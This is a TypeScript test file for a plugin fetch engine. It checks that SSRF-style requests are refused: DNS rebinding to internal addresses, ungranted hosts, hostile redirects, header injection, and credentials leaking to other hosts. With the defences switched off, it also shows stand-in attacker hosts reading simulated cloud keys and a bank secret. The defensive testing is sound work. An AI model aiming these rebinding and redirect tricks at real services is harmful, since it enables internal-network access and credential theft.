// Attacks on the fetch engine, one a row: what leads inside, what leads away, what never ends. Real name server, real TLS,
// and with the wall off the same attack arrives.
import { once } from 'node:events'
import { type AddressInfo, createServer, type Socket } from 'node:net'
import pino from 'pino'
import t from 'tap'
import { allStand, type Defence, type DefencesOff } from '../../kernel/src/defences.ts'
import { errors } from '../../kernel/src/errors.ts'
import { createFetcher, type OutsideRequest } from '../../kernel/src/outside/fetcher.ts'
import { makeOutsideWorld, type OutsideWorld, publicAddress } from '../support/outside-world.ts'
import {
  innerAddresses,
  notations,
  redirectTargets,
  refusedHeaders,
  refusedHeaderValues,
  ungrantedHosts,
} from './fetch-targets.fixture.ts'

const silent = pino({ level: 'silent' })
const granted = ['api.bank.example', 'cdn.bank.example', 'api.bank.example:8443', 'evil.attacker.example']

function asker(world: OutsideWorld, off: DefencesOff = allStand) {
  const fetcher = createFetcher({ world: world.world, plainHosts: [], log: silent }, off)
  return async (url: string, more: Partial<OutsideRequest> = {}) => {
    try {
      const answer = await fetcher.fetch({
        url,
        method: 'GET',
        headers: [],
        body: undefined,
        bodyOnlyFor: [],
        urlOnlyFor: [],
        follow: true,
        timeoutMs: 5_000,
        checkGrant(host) {
          if (!off.has('hostGrant') && !granted.includes(host)) throw errors.fetchRefused({ reason: host })
        },
        ...more,
      })
      return { status: answer.status, headers: answer.headers, body: answer.body.toString() }
    } catch (error) {
      if (!(error instanceof Error)) throw error
      const { code, limit } = error as Error & { code?: string; limit?: string }
      return { code: code ?? `limit ${limit}`, message: error.message }
    }
  }
}

const off = (...walls: Defence[]): DefencesOff => new Set(walls)
const header = (name: string, value: string) => ({ headers: [{ name, value }] })
const post = (more: Partial<OutsideRequest> = {}) => ({ method: 'POST', body: Buffer.from('{}'), ...more })

t.test('a URL that can be read in two ways, or leads to an address, is refused', async (t) => {
  const world = await makeOutsideWorld(t)
  const ask = asker(world)
  for (const [what, url] of notations) t.match(await ask(url), { code: 'FETCH_REFUSED' }, what)
  // The manifest cannot name an address, so the grant is no help against these; neither is its absence.
  const ungranted = asker(world, off('hostGrant', 'addressCheck'))
  for (const [what, url] of notations) t.match(await ungranted(url), { code: 'FETCH_REFUSED' }, what)
  t.same([world.outer, world.inner], [[], []], 'nothing was sent to anybody')
  t.match(await ask('https://api.bank.example:443/ok#part'), { status: 200, body: '{"fine":true}' })
  t.match(await ask('https://api.bank.example:8443/ok?a=b'), { status: 200 })
})

t.test('a host without a grant is not asked, in no way of writing it', async (t) => {
  const world = await makeOutsideWorld(t)
  for (const [what, url] of ungrantedHosts) t.match(await asker(world)(url), { code: 'FETCH_REFUSED' }, what)
  t.same(world.dns.asked, [], 'its name is not even looked up')
  t.match(await asker(world, off('hostGrant'))('https://www.attacker.example/ok'), { status: 200 })
})

t.test('a granted name that leads inside is not followed there', async (t) => {
  const world = await makeOutsideWorld(t)
  const ask = asker(world)
  const evil = 'https://evil.attacker.example/ok'
  const point = (...answers: string[][]) => {
    world.dns.asked.length = 0
    world.dns.names.set('evil.attacker.example', answers)
  }
  const messages = new Set<string | undefined>()
  for (const address of innerAddresses) {
    point([address])
    const reply = await ask(evil)
    t.match(reply, { code: 'FETCH_FAILED' }, address)
    messages.add(reply.message)
  }
  point([publicAddress, '10.0.0.5'])
  t.match(await ask(evil), { code: 'FETCH_FAILED' }, 'an inner address among public ones')
  point([publicAddress, '::1'])
  t.match(await ask(evil), { code: 'FETCH_FAILED' }, 'IPv4 outside, IPv6 inside')
  point([])
  messages.add((await ask(evil)).message)
  t.equal(messages.size, 1, 'no name, and an inner one: the plugin hears the same')
  t.same(world.inner, [])

  point([publicAddress], ['127.0.0.1'])
  t.match(await ask(evil), { status: 200, body: '{"fine":true}' })
  t.equal(world.dns.asked.length, 1, 'the name is looked up once, and what was checked is dialled')
  t.match(await ask(evil), { code: 'FETCH_FAILED' }, 'and once it has changed its mind it is refused')
  t.same(world.inner, [])

  const open = asker(world, off('addressCheck'))
  for (const address of innerAddresses) {
    point([address])
    t.match(await open(evil), { body: /keys of the cloud/ }, `${address} with the wall off`)
  }
  world.inner.length = 0
  point([publicAddress], ['127.0.0.1'])
  t.match(await open(evil), { status: 200, body: '{"fine":true}' })
  t.match(await open(evil), { status: 200, body: '{"inner":"the keys of the cloud"}' }, 'with the wall off')
  t.equal(world.inner.length, 1)
})

t.test('a certificate for another name, or of nobody, is no answer', async (t) => {
  const world = await makeOutsideWorld(t)
  world.dns.names.set('bank.elsewhere.example', [[publicAddress]])
  const ask = asker(world, off('hostGrant'))
  t.match(await ask('https://bank.elsewhere.example/ok'), { code: 'FETCH_FAILED' })
  const { roadTo, lookup } = world.world
  const strangers = asker({ ...world, world: { roadTo, lookup } })
  t.match(await strangers('https://api.bank.example/ok'), { code: 'FETCH_FAILED' })
  t.same(world.outer, [])
})

t.test('headers', async (t) => {
  const world = await makeOutsideWorld(t)
  const ask = asker(world)
  const echo = 'https://api.bank.example/echo'
  for (const name of refusedHeaders)
    t.match(await ask(echo, header(name, 'x')), { code: 'FETCH_REFUSED' }, `name '${name}'`)
  for (const value of refusedHeaderValues)
    t.match(
      await ask(echo, header('x-a', value)),
      { code: 'FETCH_REFUSED' },
      `value ${JSON.stringify(value.slice(0, 20))}`,
    )
  const twice = [...header('x-a', '1').headers, ...header('X-A', '2').headers]
  t.match(await ask(echo, { headers: twice }), { code: 'FETCH_REFUSED' }, 'one name twice')
  t.same(world.outer, [])
  t.match(await ask(echo, post(header('X-Own', 'a b'))), { status: 200 })
  t.match(world.latest(), { host: 'api.bank.example', 'x-own': 'a b', 'content-length': '2' })
})

t.test('redirects', async (t) => {
  const world = await makeOutsideWorld(t)
  const ask = asker(world)
  const to = (target: string, status = 302, host = 'api.bank.example') =>
    `https://${host}/redirect?status=${status}&to=${encodeURIComponent(target)}`
  for (const [what, target] of redirectTargets)
    t.match(await ask(to(target)), { code: 'FETCH_REFUSED' }, what)
  t.match(await ask('https://api.bank.example/loop'), { code: 'FETCH_REFUSED' }, 'in a circle')
  t.equal(world.outer.filter((line) => line.endsWith('/loop')).length, 4, 'which is left after three')
  const [path] = to(to(to(to('/ok'))))
    .split('https://api.bank.example')
    .slice(1)
  t.match(await ask(`https://api.bank.example${path}`), { code: 'FETCH_REFUSED' }, 'four in a row')
  world.dns.names.set('evil.attacker.example', [['10.0.0.5']])
  t.match(
    await ask(to('https://evil.attacker.example/ok')),
    { code: 'FETCH_FAILED' },
    'to a granted name that leads inside',
  )
  t.same(world.inner, [])

  t.match(await ask(to('/ok')), { status: 200 }, 'within the host')
  t.match(await ask(to('ok')), { status: 200 }, 'relative to the path')
  t.match(await ask(to('https://cdn.bank.example/ok')), { status: 200 }, 'to another that is granted')
  t.match(
    await ask(to('/ok'), { follow: false }),
    { status: 302, body: '' },
    'when they are not to be followed',
  )
  t.match(world.outer.at(-1), /redirect/)

  const secret = { name: 'x-key', value: 'of the bank', onlyFor: 'api.bank.example' }
  const authorization = { name: 'authorization', value: 'Bearer own' }
  const both = { headers: [secret, authorization, { name: 'x-own', value: 'a' }] }
  t.match(await ask(to('/echo'), both), {
    status: 200,
    body: /of the bank.*Bearer own|Bearer own.*of the bank/s,
  })
  const away = await ask(to('https://cdn.bank.example/echo'), both)
  t.match(away, { status: 200, body: /x-own/ })
  t.notMatch(away.body, /of the bank|Bearer own/, 'credentials stay behind')
  const there = encodeURIComponent('https://api.bank.example/echo')
  const andBack = await ask(to(`https://cdn.bank.example/redirect?to=${there}`), both)
  t.match(andBack, { status: 200 })
  t.notMatch(andBack.body, /of the bank|Bearer own/, 'and do not come back with the way back')

  t.match(await ask(to('/echo', 303), post()), { body: /"method":"GET"/ })
  t.match(await ask(to('/echo', 301), post()), { body: /"method":"GET"/ })
  t.match(await ask(to('/echo', 307), post()), { body: /"method":"POST".*"body":"{}"/ })
  t.match(
    await ask(to('https://cdn.bank.example/echo', 308), post({ bodyOnlyFor: ['api.bank.example'] })),
    { code: 'FETCH_REFUSED' },
    'a secret in the body is not taken elsewhere',
  )

  const open = asker(world, off('redirectCheck'))
  t.match(
    await open(to('https://www.attacker.example/echo'), both),
    { body: /of the bank/ },
    'with the wall off',
  )
  const wide = asker(world, off('redirectCheck', 'addressCheck'))
  t.match(await wide(to('https://10.0.0.5/ok')), { code: 'FETCH_FAILED' }, 'there is TLS still')
  world.dns.names.set('inner.attacker.example', [['10.0.0.5']])
  t.match(await wide(to('https://inner.attacker.example/ok')), { body: /keys of the cloud/ }, 'with both off')
})

t.test('a secret goes to its own host', async (t) => {
  const world = await makeOutsideWorld(t)
  const elsewhere = 'https://cdn.bank.example/echo'
  const header = { headers: [{ name: 'x-key', value: 'of the bank', onlyFor: 'api.bank.example' }] }
  const ways: readonly (readonly [string, Partial<OutsideRequest>])[] = [
    ['in a header', header],
    ['in the body', post({ bodyOnlyFor: ['api.bank.example'] })],
    ['in the URL', { urlOnlyFor: ['api.bank.example'] }],
    ['on another port', { urlOnlyFor: ['api.bank.example:8443'] }],
  ]
  for (const [what, request] of ways)
    t.match(await asker(world)(elsewhere, request), { code: 'FETCH_REFUSED' }, what)
  t.same(world.outer, [])
  t.match(
    await asker(world, off('hostGrant'))(elsewhere, header),
    { body: /of the bank/ },
    'with the wall off',
  )
})

t.test('an answer', async (t) => {
  const world = await makeOutsideWorld(t)
  const ask = asker(world)
  const at = (path: string) => `https://api.bank.example${path}`
  for (const path of ['/gzip', '/brotli', '/deflate'])
    t.match(await ask(at(path)), { status: 200, body: 'packed' }, path)
  t.match(await ask(at('/status?code=500')), { status: 500, body: 'a body' })
  t.match(await ask(at('/ok'), { method: 'HEAD' }), { status: 200, body: '' })

  for (const path of ['/gzip-bomb', '/brotli-bomb', '/deflate-bomb', '/big', '/big-in-chunks'])
    t.match(await ask(at(path)), { code: 'limit fetched bytes' }, path)
  for (const path of [
    '/gzip-twice',
    '/gzip-lie',
    '/strange',
    '/no-http',
    '/switch',
    '/cut',
    '/two-lengths',
    '/chunk-lie',
    '/endless-headers',
  ])
    t.match(await ask(at(path)), { code: 'FETCH_FAILED' }, path)
  for (const path of ['/drip', '/silent', '/endless-status'])
    t.match(await ask(at(path), { timeoutMs: 300 }), { code: 'FETCH_TIMEOUT' }, path)
  t.match(await ask(at('/ok'), post({ body: Buffer.alloc(2 ** 20 + 1) })), { code: 'limit fetch body bytes' })

  const open = asker(world, off('fetchSize'))
  const { body } = await open(at('/gzip-bomb'))
  t.equal(body?.length, 6 * 1024 * 1024, 'with the wall off')
  t.match(await open(at('/echo'), post({ body: Buffer.alloc(2 ** 20 + 1, 'a') })), { status: 200 })
})

t.test('a name server that never answers takes no longer than the fetch may', async (t) => {
  const world = await makeOutsideWorld(t)
  const deaf = { ...world.world, lookup: () => new Promise<never>(() => undefined) }
  t.match(await asker({ ...world, world: deaf })('https://api.bank.example/ok', { timeoutMs: 200 }), {
    code: 'FETCH_TIMEOUT',
  })
})

t.test('a host that takes the connection and says nothing takes no longer than the fetch may', async (t) => {
  const world = await makeOutsideWorld(t)
  const sockets: Socket[] = []
  const mute = createServer((socket) => sockets.push(socket))
  mute.listen(0, '127.0.0.1')
  await once(mute, 'listening')
  t.teardown(() => {
    for (const socket of sockets) socket.destroy()
    mute.close()
  })
  const { port } = mute.address() as AddressInfo
  const deaf = { ...world.world, roadTo: () => ({ address: '127.0.0.1', port }) }
  t.match(await asker({ ...world, world: deaf })('https://api.bank.example/ok', { timeoutMs: 200 }), {
    code: 'FETCH_TIMEOUT',
  })
})

t.test('plain http and inner addresses are for hosts that the operator names', async (t) => {
  const world = await makeOutsideWorld(t)
  world.dns.names.set('evil.attacker.example', [['127.0.0.1']])
  const fetcher = createFetcher({ world: world.world, plainHosts: ['evil.attacker.example'], log: silent })
  const request: OutsideRequest = {
    url: 'https://evil.attacker.example/ok',
    method: 'GET',
    headers: [],
    body: undefined,
    bodyOnlyFor: [],
    urlOnlyFor: [],
    follow: true,
    timeoutMs: 2_000,
    checkGrant: () => undefined,
  }
  t.match(await fetcher.fetch(request), { status: 200 })
  await t.rejects(fetcher.fetch({ ...request, url: 'http://api.bank.example/ok' }), { code: 'FETCH_REFUSED' })
  fetcher.close()
  await t.rejects(fetcher.fetch(request), { code: 'FETCH_FAILED' }, 'and a closed engine asks nobody')
})
